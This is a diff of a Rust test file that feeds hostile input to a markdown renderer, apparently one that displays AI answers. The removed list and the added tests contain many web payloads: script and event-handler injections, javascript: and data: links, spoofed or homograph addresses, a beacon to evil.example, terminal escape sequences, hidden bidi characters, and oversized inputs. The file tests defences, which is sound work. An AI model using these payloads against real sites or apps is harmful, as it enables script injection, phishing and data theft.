@@ -1,107 +1,15 @@
 //! Payloads times the places they can stand in.
 
-use crate::{checker, streamed};
-use markdown::render;
+use crate::{checker, dom, streamed};
+use markdown::{code_text, plain, render};
+use std::sync::LazyLock;
 
-/// One for each way in that we know: elements, handlers, foreign content, broken syntax, addresses,
-/// references, characters.
-const PAYLOADS: &[&str] = &[
-    "<script>boom()</script>",
-    "<ScRiPt >boom()</sCrIpT\t>",
-    "<script/src=//evil.example/a.js>",
-    "<img src=x onerror=boom()>",
-    "<img/src=`x`onerror=boom()>",
-    "<svg onload=boom()>",
-    "<svg><style><!--</style><img src=x onerror=boom()>",
-    "<math><mtext></p><style><a title=\"</style><img onerror=boom()>\">",
-    "<iframe srcdoc='<script>boom()</script>'></iframe>",
-    "<object data=data:text/html,boom></object>",
-    "<base href=https://evil.example/>",
-    "<meta http-equiv=refresh content=0;url=//evil.example>",
-    "<link rel=stylesheet href=//evil.example/a.css>",
-    "<style>@import '//evil.example'</style>",
-    "<form action=//evil.example><button>Enter your key</button></form>",
-    "<input autofocus onfocus=boom()>",
-    "<details open ontoggle=boom()>",
-    "<a href=javascript:boom()>x</a>",
-    "<a id=__TAURI__ name=body>x</a>",
-    "<!-- --!><img onerror=boom()>",
-    "<![CDATA[<img onerror=boom()>]]>",
-    "<?php boom() ?>",
-    "<!DOCTYPE html><body onload=boom()>",
-    "</code></pre></div><script>boom()</script>",
-    "</p></td></tr></table><img onerror=boom()>",
-    "<noscript><p title=\"</noscript><img onerror=boom()>\">",
-    "<template><script>boom()</script></template>",
-    "<textarea></textarea><script>boom()</script>",
-    "\"><img onerror=boom()>",
-    "' onmouseover='boom()",
-    "x\" onload=\"boom()",
-    "&lt;script&gt;boom()&lt;/script&gt;",
-    "&#60;script&#62;boom()&#x3c;/script&#x3e;",
-    "[a](javascript:boom())",
-    "[a](JaVaScRiPt:boom())",
-    "[a](java&#10;script:boom())",
-    "[a](java&Tab;script:boom())",
-    "[a](javascript&colon;boom())",
-    "[a](<java\tscript:boom()>)",
-    "[a](\\javascript:boom())",
-    "[a](%6aavascript:boom())",
-    "[a](data:text/html;base64,PHNjcmlwdD4=)",
-    "[a](vbscript:boom)",
-    "[a](file:///etc/passwd)",
-    "[a](blob:https://x/1)",
-    "[a](tauri://localhost/)",
-    "[a](ipc://localhost/x)",
-    "[a](ms-msdt:/id)",
-    "[a](smb://evil/x)",
-    "[a](\\\\\\\\evil\\\\share)",
-    "[a](//evil.example)",
-    "[a](/etc/passwd)",
-    "[a](https://good.example@evil.example/)",
-    "[a](https://@evil.example/)",
-    "[a](https:evil.example)",
-    "[a](https:///evil.example)",
-    "[a](https:/\\evil.example)",
-    "[a](https://a.example/\u{202E}gpj.exe)",
-    "[a](https://a.example/&#x202e;x)",
-    "[a](https://a.example/\"onload=boom())",
-    "[a](https://a.example \"title\\\" onload=boom()\")",
-    "[a](<https://a.example/><script>boom()</script>)",
-    "[https://good.example](https://evil.example)",
-    "[a [b](https://b.example)](https://c.example)",
-    "[![x](https://a.example/i.png)](https://b.example)",
-    "![x](https://evil.example/beacon?q=secret)",
-    "![x](data:image/svg+xml,<svg/onload=boom()>)",
-    "![x\" onerror=\"boom()](https://a.example)",
-    "![<img onerror=boom()>](https://a.example)",
-    "![a][b]\n\n[b]: https://evil.example/beacon",
-    "[b]: javascript:boom()\n\n[a][b]",
-    "<javascript:boom()>",
-    "<https://a.example/<script>>",
-    "<https://a@b.example>",
-    "<a@b.example\" onload=boom()>",
-    "https://a.example/<script>boom()</script>",
-    "https://a.example/\"onmouseover=boom()",
-    "https://user:pass@evil.example/",
-    "[^x\" onload=boom()]\n\n[^x\" onload=boom()]: y",
-    "[^body]\n\n[^body]: [^<b>] <b>",
-    "[^a",
-    "\u{FDD0}script\u{FDD1}boom\u{FDD2}\u{FDD3}",
-    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
-    "\x1b]52;c;Ym9vbQ==\x07\u{9b}31m\x08\x08\0",
-    "admin\u{202E}\u{2066}nimda\u{2069}",
-    "a\u{200B}b\u{FEFF}c\u{E0041}\u{E0042}",
-    "$\\text{<script>boom()</script>}$",
-    "$$\n</code><script>boom()</script>\n$$",
-    "```x\" onload=\"boom()\ncode\n```",
-    "```html\n<script>boom()</script>\n```",
-    "~~~ <script>\n</code>\n~~~",
-    "`<script>` `` ` `` `\u{202E}`",
-    "- [x] <input type=checkbox>\n- [ ] y",
-    "| <b> | [x](javascript:y) |\n|--|--|\n| <i> | `|` |",
-    "# <h1 id=x> {#id .class onload=boom()}",
-];
+/// One for each way in that we know: elements, handlers, foreign content, parsers that disagree,
+/// addresses, references, formulas, characters. The real window is shown the same.
+static PAYLOADS: LazyLock<Vec<String>> = LazyLock::new(|| {
+    let json = include_str!("../../../../../tests/fixtures/payloads.json");
+    serde_json::from_str(json).expect("a list of texts")
+});
 
 /// Places, `@` being the payload.
 const PLACES: &[&str] = &[
@@ -120,10 +28,13 @@ const PLACES: &[&str] = &[
     "[a](https://a.example \"@\")",
     "![@](https://a.example/i.png)",
     "![a](@)",
+    "![a](https://a.example/i.png \"@\")",
     "**@** ~~@~~",
     "1. step\n\n   ```sh\n   @\n   ```",
     "[^1]: @\n\n[^1]",
     "$@$",
+    "$$\n@\n$$",
+    "\\(\\text{@}\\)",
     "<@>",
 ];
 
@@ -133,47 +44,83 @@ fn corpus() -> impl Iterator<Item = String> {
         .flat_map(|place| PAYLOADS.iter().map(move |p| place.replace('@', p)))
 }
 
+fn blocks(text: &str) -> Vec<String> {
+    let blocks = render(text);
+    blocks.iter().for_each(|block| {
+        checker::check(block);
+        dom::check(block);
+    });
+    blocks
+}
+
 #[test]
-fn nothing_hostile_gets_past_the_writer() {
-    assert!(corpus().count() >= 200);
+fn w6_w26_w27_nothing_hostile_gets_past_the_writer() {
+    assert!(PAYLOADS.len() >= 200, "{}", PAYLOADS.len());
     for text in corpus() {
-        render(&text).iter().for_each(|block| checker::check(block));
+        blocks(&text);
     }
 }
 
 #[test]
-fn no_cut_of_a_hostile_text_shows_more_than_the_whole() {
-    let cuts = |text: &str| text.char_indices().map(|(at, _)| at).collect::<Vec<_>>();
-    for text in corpus() {
-        let pieces = cuts(&text)
-            .into_iter()
-            .map(|at| &text[at..text[at..].ceil_char_boundary(1) + at]);
-        assert_eq!(streamed(pieces), render(&text), "{text:?}");
+fn w12_no_cut_of_a_hostile_text_shows_more_than_the_whole() {
+    for text in corpus().filter(|text| text.len() < 160) {
+        let each = text
+            .char_indices()
+            .map(|(at, c)| &text[at..at + c.len_utf8()]);
+        assert_eq!(streamed(each), render(&text), "{text:?}");
     }
-    for text in PAYLOADS {
-        for at in cuts(text) {
-            assert_eq!(
-                streamed([&text[..at], &text[at..]]),
-                render(text),
-                "at {at} of {text:?}"
-            );
+    for text in PAYLOADS.iter() {
+        for (at, _) in text.char_indices() {
+            let (head, rest) = text.split_at(at);
+            assert_eq!(streamed([head, rest]), render(text), "at {at} of {text:?}");
         }
     }
 }
 
 #[test]
-fn only_plain_web_and_mail_addresses_can_be_opened() {
+fn w13_line_ends_and_entities_survive_being_cut() {
+    for text in [
+        "a\r\nb\rc\n\r\nd",
+        "a &amp; b &#x1F600; &copy",
+        "e\u{301} 🏴\u{E0067}\u{E007F} 𝔘\u{FE0F}",
+    ] {
+        for (at, _) in text.char_indices() {
+            let (head, rest) = text.split_at(at);
+            assert_eq!(streamed([head, rest]), render(text), "at {at} of {text:?}");
+        }
+    }
+    assert_eq!(render("a\r\nb\rc"), ["<p>a\nb\nc</p>"]);
+    assert_eq!(
+        render("&amp;lt; &#0; &#x110000;"),
+        ["<p>&amp;lt; \u{FFFD} \u{FFFD}</p>"]
+    );
+}
+
+#[test]
+fn w7_only_plain_web_and_mail_addresses_can_be_opened() {
     let open = |text: &str| render(text).concat().contains("data-href");
+    // What follows the target is a title, which is dropped, or text.
+    let known = [
+        "[a](https://a.example \"title\\\" onload=boom()\")",
+        "[a](<https://a.example/><script>boom()</script>)",
+        "[x](https://a.example 'onmouseover=window.__pwned=1')",
+        "[x](https://a.example (onmouseover=window.__pwned=1))",
+        "[x](http://tauri.localhost/)",
+        // Its true host is shown: a.example.evil.example.
+        "[x](https://a.example\u{3002}evil.example/)",
+    ];
     for payload in PAYLOADS
         .iter()
-        .filter(|p| p.starts_with("[a](") || p.starts_with("<javascript"))
+        .filter(|p| p.starts_with("[a](") || p.starts_with("[x](") || p.starts_with("<javascript"))
     {
-        // What follows the target is a title, which is dropped, or text.
-        let known = [
-            "[a](https://a.example \"title\\\" onload=boom()\")",
-            "[a](<https://a.example/><script>boom()</script>)",
-        ];
-        assert_eq!(open(payload), known.contains(payload), "{payload:?}");
+        let html = render(payload).concat();
+        // A bare address in the text of a refused one is still one, and shows itself.
+        let bare = html.contains("//https://a.example") || payload.contains("%00@");
+        assert!(
+            !open(payload) || known.contains(&&**payload) || bare,
+            "{payload:?} {html}"
+        );
+        assert!(!html.contains("data-href=\"javascript"), "{payload:?}");
     }
     for good in [
         "[a](https://a.example)",
@@ -191,10 +138,157 @@ fn only_plain_web_and_mail_addresses_can_be_opened() {
 }
 
 #[test]
-fn the_address_that_opens_is_the_one_that_shows_its_true_host() {
-    let html = render("[ok](https://ex\u{0430}mple.com)").concat();
-    assert!(
-        html.contains("data-href=\"https://xn--exmple-4nf.com/\""),
-        "{html}"
+fn w8_the_address_that_opens_is_the_one_that_shows_its_true_host() {
+    let opened = |text: &str| {
+        let html = render(text).concat();
+        let rest = html.split_once("data-href=\"")?.1.to_owned();
+        Some(rest.split_once('"')?.0.to_owned())
+    };
+    let cases = [
+        (
+            "[ok](https://ex\u{0430}mple.com)",
+            Some("https://xn--exmple-4nf.com/"),
+        ),
+        (
+            "[ok](https://xn--exmple-4nf.com)",
+            Some("https://xn--exmple-4nf.com/"),
+        ),
+        (
+            "[https://good.example](https://evil.example)",
+            Some("https://evil.example/"),
+        ),
+        ("[ok](https://good.example@evil.example)", None),
+        ("[ok](https://a.example/\u{202E}gpj)", None),
+        ("[ok](https://a.example%00.evil.example)", None),
+    ];
+    for (text, address) in cases {
+        assert_eq!(opened(text).as_deref(), address, "{text:?}");
+    }
+}
+
+#[test]
+fn w11_w10_a_picture_is_words_and_a_host_whatever_its_address() {
+    for (text, shown) in [
+        (
+            format!("![cat](data:image/png;base64,{})", "A".repeat(1 << 20)),
+            "cat",
+        ),
+        (
+            "![cat](data:image/svg+xml,<svg/onload=boom()>)".to_owned(),
+            "cat",
+        ),
+        ("![cat](javascript:boom())".to_owned(), "cat"),
+        ("![cat](//evil.example/x.png)".to_owned(), "cat"),
+    ] {
+        let html = blocks(&text).concat();
+        assert!(html.len() < text.len().max(9 * 1024) * 2);
+        assert!(
+            html.contains(shown) && !html.contains("<img") && !html.contains("data-href"),
+            "{text:.60}"
+        );
+    }
+    assert_eq!(
+        blocks("![cat](https://evil.example/x.png)"),
+        [
+            "<p><span class=\"image\">cat <a class=\"link\" role=\"link\" tabindex=\"0\" \
+          data-href=\"https://evil.example/x.png\">evil.example</a></span></p>"
+        ]
     );
+}
+
+#[test]
+fn w14_w22_escape_sequences_are_seen_and_not_copied() {
+    let text = "\u{1b}]52;c;Ym9vbQ==\u{7} \u{9b}31m a\u{8}b\u{7f} \u{85}";
+    for place in ["@", "```\n@\n```", "`@`", "# @", "> @"] {
+        let html = blocks(&place.replace('@', text)).concat();
+        assert!(
+            html.contains("␛]52;c;Ym9vbQ==␇") && html.contains("a␈b␡"),
+            "{html}"
+        );
+        assert!(html.contains("title=\"U+009B\""), "{html}");
+    }
+    let copied = code_text(&format!("```sh\n{text}\n```"), 0).expect("code");
+    assert_eq!(
+        (&*copied.text, copied.left_out),
+        ("]52;c;Ym9vbQ== 31m ab ", 6)
+    );
+    assert_eq!(plain(text), "]52;c;Ym9vbQ== 31m ab");
+}
+
+#[test]
+fn w15_what_hides_or_reorders_is_flagged_in_code_and_left_out_of_its_copy() {
+    for (hidden, points) in [
+        ("\u{202E}", 1),
+        ("\u{2066}\u{2069}", 2),
+        ("\u{200B}", 1),
+        ("\u{200F}", 1),
+        ("\u{FEFF}", 1),
+        ("\u{E0041}\u{E0042}", 2),
+        ("\u{FE0F}", 1),
+        ("\u{E0100}", 1),
+        ("\u{AD}", 1),
+        ("\u{3164}", 1),
+        ("\u{2060}", 1),
+        ("\u{61C}", 1),
+        ("\u{180E}", 1),
+        ("\u{2028}", 1),
+    ] {
+        let text = format!("```js\nif (admin{hidden}) x\n```");
+        let html = blocks(&text).concat();
+        assert_eq!(
+            html.matches("class=\"hidden-char\"").count(),
+            points,
+            "{hidden:?}: {html}"
+        );
+        assert!(!html.contains(hidden), "{hidden:?}");
+        let copied = code_text(&text, 0).expect("code");
+        assert_eq!(
+            (&*copied.text, copied.left_out),
+            ("if (admin) x", points),
+            "{hidden:?}"
+        );
+    }
+}
+
+#[test]
+fn w16_marks_words_and_tables_without_end_are_bounded() {
+    let zalgo = format!("e{}", "\u{301}".repeat(10_000));
+    for place in ["@", "`@`", "```\n@\n```", "# @"] {
+        let html = blocks(&place.replace('@', &zalgo)).concat();
+        // A line is cut after eight kilobytes, so it begins anew.
+        assert!(html.matches('\u{301}').count() <= 3 * 8, "{place}");
+        assert!(html.contains("title=\"U+0301\""), "{place}");
+    }
+    assert_eq!(render("ế o\u{302}\u{301}"), ["<p>ế o\u{302}\u{301}</p>"]);
+    let table = format!("|a|b|\n|-|-|\n{}", "|1|2|\n".repeat(100_000));
+    for text in [zalgo, "x".repeat(1 << 20), table] {
+        let blocks = render(&text);
+        let longest = blocks.iter().map(String::len).max().unwrap_or(0);
+        assert!(longest < 64 * 1024, "a block of {longest} bytes");
+        assert!(blocks.iter().map(|b| b.matches('1').count()).max() < Some(2_000));
+    }
+}
+
+#[test]
+fn w18_an_answer_without_end_stays_in_bounded_pieces() {
+    // Fifty megabytes, as one line and as many.
+    for piece in ["word ", "- a\n"] {
+        let text = piece.repeat(50_000_000 / piece.len());
+        let blocks = render(&text);
+        let longest = blocks.iter().map(String::len).max().unwrap_or(0);
+        assert!(longest < 64 * 1024, "{piece:?}: a block of {longest} bytes");
+        let total: usize = blocks.iter().map(String::len).sum();
+        assert!(total < 6 * text.len(), "{piece:?}: {total} bytes");
+    }
+}
+
+#[test]
+fn w23_a_preview_of_anything_is_short_and_plain() {
+    for text in corpus() {
+        let line = plain(&text);
+        assert!(
+            line.chars().count() <= 400 && !line.contains(['\n', '\u{202E}', '\u{1b}']),
+            "{line:?}"
+        );
+    }
 }
